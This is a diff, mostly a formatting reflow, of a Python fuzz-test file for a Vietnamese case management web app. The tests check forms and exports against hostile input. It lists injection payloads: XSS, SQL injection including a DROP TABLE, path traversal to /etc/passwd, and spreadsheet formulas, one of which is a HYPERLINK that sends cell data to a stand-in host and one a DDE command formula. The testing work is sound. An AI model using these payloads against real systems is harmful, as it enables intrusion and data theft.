@@ -43,27 +43,89 @@ RAW_MARKERS = ("<img src=x", 'hx-get="/x', "<script>alert")
 
 NAME_NFC = "Lò Thị Hoà Nguyễn Thuỳ Dương"
 PAYLOADS = [
-    XSS, HX_ATTR, SCRIPT, f"'>{XSS}", f"{HX_ATTR}\" hx-trigger=\"load", "{{ 7*7 }}", "{% raw %}", "${7*7}",
-    "' OR '1'='1' --", "Robert'); DROP TABLE case_record;--", "1; SELECT pg_sleep(1)", "%00", "%' --",
-    "\x00", "abc\x00def", "\x1b[31m", "\u200b", "a\u200bb\u200c\u200d", "\ufeffBOM", "\u202eabc\u202c",
-    "\u2066x\u2069", "\u061c", "\ud7ff", "\U0001f600", unicodedata.normalize("NFD", NAME_NFC), NAME_NFC,
-    " ", "\t\n\r", "../../etc/passwd", "javascript:alert(1)", "data:text/html,<b>x</b>", "null", "None",
-    "true", "-1", "0", "1e400", "NaN", "99999999999999999999999", "-99999999999999999999999", "0x1F",
-    "2026-02-30", "31/12/2026", "0000-00-00", "9999-99-99", "2026-13-01", "20260101", "1/1/1",
-    "00000000-0000-0000-0000-000000000000", "not-a-uuid", "%s%s%s%n", "A" * 300,
+    XSS,
+    HX_ATTR,
+    SCRIPT,
+    f"'>{XSS}",
+    f'{HX_ATTR}" hx-trigger="load',
+    "{{ 7*7 }}",
+    "{% raw %}",
+    "${7*7}",
+    "' OR '1'='1' --",
+    "Robert'); DROP TABLE case_record;--",
+    "1; SELECT pg_sleep(1)",
+    "%00",
+    "%' --",
+    "\x00",
+    "abc\x00def",
+    "\x1b[31m",
+    "\u200b",
+    "a\u200bb\u200c\u200d",
+    "\ufeffBOM",
+    "\u202eabc\u202c",
+    "\u2066x\u2069",
+    "\u061c",
+    "\ud7ff",
+    "\U0001f600",
+    unicodedata.normalize("NFD", NAME_NFC),
+    NAME_NFC,
+    " ",
+    "\t\n\r",
+    "../../etc/passwd",
+    "javascript:alert(1)",
+    "data:text/html,<b>x</b>",
+    "null",
+    "None",
+    "true",
+    "-1",
+    "0",
+    "1e400",
+    "NaN",
+    "99999999999999999999999",
+    "-99999999999999999999999",
+    "0x1F",
+    "2026-02-30",
+    "31/12/2026",
+    "0000-00-00",
+    "9999-99-99",
+    "2026-13-01",
+    "20260101",
+    "1/1/1",
+    "00000000-0000-0000-0000-000000000000",
+    "not-a-uuid",
+    "%s%s%s%n",
+    "A" * 300,
 ]
 LONG_VALUES = ["A" * 65536, "ễ" * 21846, (XSS * 2200)[:65536]]
 VIETNAMESE = "aăâbcdđeêghiklmnoôơpqrstuưvxyàảãáạằẳẵắặầẩẫấậèẻẽéẹềểễếệìỉĩíịòỏõóọồổỗốộờởỡớợùủũúụừửữứựỳỷỹýỵ ĐƯ"
 DATE_VALUES = ["2026-03-02", "1900-01-01", "2100-12-31", "1899-12-31", "9999-12-31", "2026-02-29"]
-NUMBER_VALUES = ["0", "-1", "1", "1990", "2147483648", "-2147483649", "9223372036854775808", "1e9", "1.5",
-                 "1,5", "١٢٣", "１２３", "+7", "  42  "]
+NUMBER_VALUES = [
+    "0",
+    "-1",
+    "1",
+    "1990",
+    "2147483648",
+    "-2147483649",
+    "9223372036854775808",
+    "1e9",
+    "1.5",
+    "1,5",
+    "١٢٣",
+    "１２３",
+    "+7",
+    "  42  ",
+]
 
 text_values = st.one_of(
     st.sampled_from(PAYLOADS),
     st.text(alphabet=VIETNAMESE + "<>\"'&=/;-_ \u200b\u202e\u0300\u0301\u0323", max_size=80),
     st.text(max_size=40),  # any Unicode, control characters and lone combining marks included
-    st.builds(lambda a, p, b: a + p + b, st.text(alphabet=VIETNAMESE, max_size=20), st.sampled_from(PAYLOADS),
-              st.text(alphabet=VIETNAMESE, max_size=20)),
+    st.builds(
+        lambda a, p, b: a + p + b,
+        st.text(alphabet=VIETNAMESE, max_size=20),
+        st.sampled_from(PAYLOADS),
+        st.text(alphabet=VIETNAMESE, max_size=20),
+    ),
     st.builds(lambda t: unicodedata.normalize("NFD", t), st.text(alphabet=VIETNAMESE, min_size=1, max_size=40)),
 )
 # A 64 KiB value in about one text field in twenty: more often, most bodies would pass 1 MiB and test only the 413.
@@ -114,7 +176,7 @@ def assert_safe(response, where: str, body: dict) -> None:
     for marker in RAW_MARKERS:
         if marker in text:
             index = text.index(marker)
-            raise AssertionError(f"{where}: {marker!r} reflected unescaped: …{text[max(0, index - 200):index + 80]}…")
+            raise AssertionError(f"{where}: {marker!r} reflected unescaped: …{text[max(0, index - 200) : index + 80]}…")
     location = response.headers.get("Location", "")
     assert not any(m in location for m in ("<", '"', "'")), f"{where}: payload in a redirect: {location[:200]}"
 
@@ -127,6 +189,7 @@ def world(app):
     """The world, and afterwards the unit tree as it was: units and lineage are reference data that survive the
     wipe between tests, and the admin's unit forms are fuzzed too."""
     from app.units.models import Unit, UnitLineage
+
     with app.app_context():
         before_units = set(db.session.scalars(select(Unit.id)))
         before_links = set(db.session.scalars(select(UnitLineage.id)))
@@ -137,11 +200,13 @@ def world(app):
         db.session.remove()
     yield built
     from helpers import wipe
+
     wipe(app)
     with app.app_context():
         db.session.execute(delete(UnitLineage).where(UnitLineage.id.not_in(before_links)))
-        extra = db.session.scalars(select(Unit).where(Unit.id.not_in(before_units | {saved[0]}))
-                                   .order_by(Unit.path.desc())).all()
+        extra = db.session.scalars(
+            select(Unit).where(Unit.id.not_in(before_units | {saved[0]})).order_by(Unit.path.desc())
+        ).all()
         for unit in extra:
             if unit.code != OTHER_DISTRICT:
                 db.session.delete(unit)
@@ -157,8 +222,14 @@ def world(app):
 # Forms every signed-in profile has (own password, language, two-step sign-in): fuzzed as one profile only.
 SHARED = {"auth.password", "auth.totp", "auth.totp_setup", "web.set_language", "auth.setup", "auth.step_up"}
 # Last, because they take objects away from the others (erasure, withdrawal): the rest runs first.
-DESTRUCTIVE = ("cases.erase_decide", "referrals.withdraw", "referrals.destroy", "admin.set_active",
-               "admin.remove_role", "referrals.agency_unmap")
+DESTRUCTIVE = (
+    "cases.erase_decide",
+    "referrals.withdraw",
+    "referrals.destroy",
+    "admin.set_active",
+    "admin.remove_role",
+    "referrals.agency_unmap",
+)
 
 
 def discover_forms(app, world, profile: str, client) -> list[tuple[str, object]]:
@@ -199,9 +270,12 @@ def fuzz_form(client, endpoint: str, form, headers: dict, examples: int) -> int:
     """Post `examples` generated bodies to one form; returns how many were sent."""
     sent = []
 
-    @settings(max_examples=examples, deadline=None, database=None,
-              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
-                                     HealthCheck.data_too_large])
+    @settings(
+        max_examples=examples,
+        deadline=None,
+        database=None,
+        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+    )
     @given(st.data())
     def run(data):
         body = _form_body(data, form)
@@ -224,8 +298,9 @@ def test_every_form_survives_hostile_input(app, world, profile):
     for endpoint, form in forms:
         total += fuzz_form(client, endpoint, form, {}, EXAMPLES_PER_FORM)
         if form.hx_target:  # the same form as htmx sends it: the fragment must be as safe
-            total += fuzz_form(client, endpoint, form, {"HX-Request": "true", "HX-Target": form.hx_target},
-                               EXAMPLES_PER_HTMX_FORM)
+            total += fuzz_form(
+                client, endpoint, form, {"HX-Request": "true", "HX-Target": form.hx_target}, EXAMPLES_PER_HTMX_FORM
+            )
         if profile != "anon" and client.get("/auth/account").status_code != 200:
             client = login(app.test_client(), world, profile)  # a fuzzed form may end the session: sign in again
     assert total >= len(forms)  # forms with no free field (a lone button) run out of distinct examples early
@@ -247,12 +322,25 @@ def test_a_body_over_one_mebibyte_gets_413(app, world, path):
 names = st.one_of(
     st.text(alphabet=VIETNAMESE + "'-.\u200b\u202e", min_size=1, max_size=50),
     st.builds(lambda t: unicodedata.normalize("NFD", t), st.text(alphabet=VIETNAMESE, min_size=1, max_size=40)),
-    st.sampled_from([NAME_NFC, unicodedata.normalize("NFD", NAME_NFC), XSS, HX_ATTR[:60], "O'Brien; --",
-                     "Lò\u200bThị", "\u202eiaM ihT òL"]),
+    st.sampled_from(
+        [
+            NAME_NFC,
+            unicodedata.normalize("NFD", NAME_NFC),
+            XSS,
+            HX_ATTR[:60],
+            "O'Brien; --",
+            "Lò\u200bThị",
+            "\u202eiaM ihT òL",
+        ]
+    ),
 ).filter(lambda t: t.strip() and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", t))
 
-SLOW = settings(max_examples=EXAMPLES_PER_FORM, deadline=None, database=None,
-                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+SLOW = settings(
+    max_examples=EXAMPLES_PER_FORM,
+    deadline=None,
+    database=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 
 
 def _nfc(value: str) -> str:
@@ -261,16 +349,28 @@ def _nfc(value: str) -> str:
 
 def test_case_full_names_round_trip_and_nfd_finds_nfc(app, world, unit):
     from app.cases.models import Case
+
     client = login(app.test_client(), world, "counsellor")
     unit_id = unit("TA-02").id
 
     @SLOW
     @given(name=names)
     def run(name):
-        response = client.post("/cases/new", data={
-            "kind": "dv", "unit_id": unit_id, "opened_on": "2026-03-02", "sex": "female", "age_band": "30_44",
-            "ethnic_code": "03", "poverty_status": "poor", "risk_level": "high", "full_name": name,
-            "confirm_duplicate": "y"})
+        response = client.post(
+            "/cases/new",
+            data={
+                "kind": "dv",
+                "unit_id": unit_id,
+                "opened_on": "2026-03-02",
+                "sex": "female",
+                "age_band": "30_44",
+                "ethnic_code": "03",
+                "poverty_status": "poor",
+                "risk_level": "high",
+                "full_name": name,
+                "confirm_duplicate": "y",
+            },
+        )
         assert_safe(response, "intake", {})
         assert response.status_code == 303, response.get_data(as_text=True)[:2000]
         case_id = response.headers["Location"].rsplit("/", 1)[-1]
@@ -280,6 +380,7 @@ def test_case_full_names_round_trip_and_nfd_finds_nfc(app, world, unit):
         assert stored == _nfc(name)
         page = client.get(f"/cases/{case_id}").get_data(as_text=True)
         from markupsafe import escape
+
         assert str(escape(stored)) in page
         found = client.post("/cases/", data={"q": unicodedata.normalize("NFD", stored)}).get_data(as_text=True)
         assert f"/cases/{case_id}" in found, "the NFD spelling must find the case stored in NFC"
@@ -289,10 +390,14 @@ def test_case_full_names_round_trip_and_nfd_finds_nfc(app, world, unit):
 
 def test_note_bodies_round_trip(app, world):
     from app.cases.models import CaseNote
+
     client = login(app.test_client(), world, "counsellor")
     case_id = world.params["own"]["case_id"]
-    bodies = st.one_of(names, st.text(alphabet=VIETNAMESE + "\n<>&\"'", min_size=1, max_size=300),
-                       st.just("Dòng một\nDòng hai — <b>đậm?</b> & \"trích\""))
+    bodies = st.one_of(
+        names,
+        st.text(alphabet=VIETNAMESE + "\n<>&\"'", min_size=1, max_size=300),
+        st.just('Dòng một\nDòng hai — <b>đậm?</b> & "trích"'),
+    )
 
     @SLOW
     @given(body=bodies.filter(lambda t: t.strip() and not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", t)))
@@ -301,8 +406,9 @@ def test_note_bodies_round_trip(app, world):
         assert_safe(response, "note", {})
         assert response.status_code == 303, response.get_data(as_text=True)[:2000]
         with app.app_context():
-            newest = db.session.scalars(select(CaseNote).where(CaseNote.case_id == case_id)
-                                        .order_by(CaseNote.created_at.desc()).limit(1)).one()
+            newest = db.session.scalars(
+                select(CaseNote).where(CaseNote.case_id == case_id).order_by(CaseNote.created_at.desc()).limit(1)
+            ).one()
             stored = newest.body
             db.session.remove()
         assert stored == _nfc(body.replace("\r\n", "\n"))
@@ -312,6 +418,7 @@ def test_note_bodies_round_trip(app, world):
 
 def test_unit_names_round_trip(app, world):
     from app.units.models import Unit
+
     client = login(app.test_client(), world, "admin")
     parent_id = world.extra["far_commune_id"]
     counter = iter(range(10_000))
@@ -320,8 +427,9 @@ def test_unit_names_round_trip(app, world):
     @given(name=names)
     def run(name):
         code = f"TD-KHAC-V{next(counter)}"
-        response = client.post("/admin/units/new", data={"code": code, "kind": "village", "name": name,
-                                                         "parent": parent_id})
+        response = client.post(
+            "/admin/units/new", data={"code": code, "kind": "village", "name": name, "parent": parent_id}
+        )
         assert_safe(response, "unit", {})
         assert response.status_code == 303, response.get_data(as_text=True)[:2000]
         with app.app_context():
@@ -334,17 +442,29 @@ def test_unit_names_round_trip(app, world):
 
 # --- exports: what people typed never becomes a formula -------------------------------------------------
 
-FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm để xem")', "=1+1", "=cmd|' /C calc'!A0",
-            "+SUM(1,2)", "@SUM(1,2)", "-2+3"]
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm để xem")',
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "@SUM(1,2)",
+    "-2+3",
+]
 
 
 def _formula_cells(xlsx: bytes) -> list[str]:
     from io import BytesIO
 
     from openpyxl import load_workbook
+
     book = load_workbook(BytesIO(xlsx))
-    return [f"{sheet.title}!{cell.coordinate}: {cell.value}" for sheet in book.worksheets
-            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    return [
+        f"{sheet.title}!{cell.coordinate}: {cell.value}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
 
 
 def test_exports_never_write_a_formula(app, world):
@@ -353,12 +473,21 @@ def test_exports_never_write_a_formula(app, world):
     from app.indicators import queries, services
     from app.indicators.models import Submission
     from app.units.models import Unit
+
     with app.test_request_context():
         sub = db.session.get(Submission, world.params["own"]["submission_id"])
-        values = {(ind.id, kind): (5, 8 if ind.is_percent else None, {}) for ind in queries.indicators()
-                  for kind in services.required_kinds(sub.cycle) if not ind.derived}
-        services.save_draft(sub, values, {"results": FORMULAS[0], "difficulties": FORMULAS[1],
-                                          "recommendations": FORMULAS[2]}, actor="test")
+        values = {
+            (ind.id, kind): (5, 8 if ind.is_percent else None, {})
+            for ind in queries.indicators()
+            for kind in services.required_kinds(sub.cycle)
+            if not ind.derived
+        }
+        services.save_draft(
+            sub,
+            values,
+            {"results": FORMULAS[0], "difficulties": FORMULAS[1], "recommendations": FORMULAS[2]},
+            actor="test",
+        )
         services.submit(sub, actor="test")
         far = db.session.get(Unit, world.extra["far_commune_id"])
         far.name = FORMULAS[0]  # put back by the world fixture
@@ -379,11 +508,13 @@ def test_a_nul_byte_in_an_id_finds_nothing(app, world):
     """PostgreSQL refuses a NUL in a query: an id carrying one must be refused before (never a 503 'try again')."""
     client = login(app.test_client(), world, "reporter")
     activity = world.params["own"]["activity_id"]
-    refused = client.post(f"/indicators/activities/{activity}/status",
-                          data={"unit_id": "\x00", "year": "2026", "status": "done"})
+    refused = client.post(
+        f"/indicators/activities/{activity}/status", data={"unit_id": "\x00", "year": "2026", "status": "done"}
+    )
     assert refused.status_code == 404
-    started = client.post("/indicators/reports/start", data={"unit_id": world.extra["report_unit_id"],
-                                                             "cycle_id": "\x00"})
+    started = client.post(
+        "/indicators/reports/start", data={"unit_id": world.extra["report_unit_id"], "cycle_id": "\x00"}
+    )
     assert started.status_code < 500
     assert client.get("/indicators/?unit=%00").status_code < 500
     for path in ("/cases/", "/referrals/", "/livelihood/"):
